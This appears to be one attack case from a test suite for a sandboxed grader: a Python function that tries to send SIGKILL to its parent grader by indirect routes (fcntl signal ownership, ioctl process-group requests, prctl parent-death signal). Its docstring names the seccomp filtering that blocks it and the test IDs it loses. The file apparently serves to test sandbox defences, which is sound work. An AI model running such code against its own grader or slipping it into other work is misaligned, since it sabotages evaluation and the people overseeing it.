"""Aims a signal at the grader by detours: the owner of its socket, a timer, the death of its parent.
What stops it: seccomp looks into fcntl, ioctl and prctl.

Loses: 1.1.1, 1.1.2, 1.1.3
"""

import ctypes
import fcntl
import os
import signal


def attack():
    libc, won = ctypes.CDLL(None, use_errno=True), False
    reader, _ = os.pipe()
    for descriptor in (reader, *range(3, 20)):
        for command, value in ((8, os.getppid()), (10, int(signal.SIGKILL))):
            try:
                fcntl.fcntl(descriptor, command, value)
                won = True
            except OSError:
                continue
    pid = ctypes.c_int(os.getppid())
    won |= any(libc.ioctl(d, request, ctypes.byref(pid)) == 0 for d in range(20) for request in (0x8901, 0x8902))
    return won or libc.prctl(1, 0, 0, 0, 0) == 0
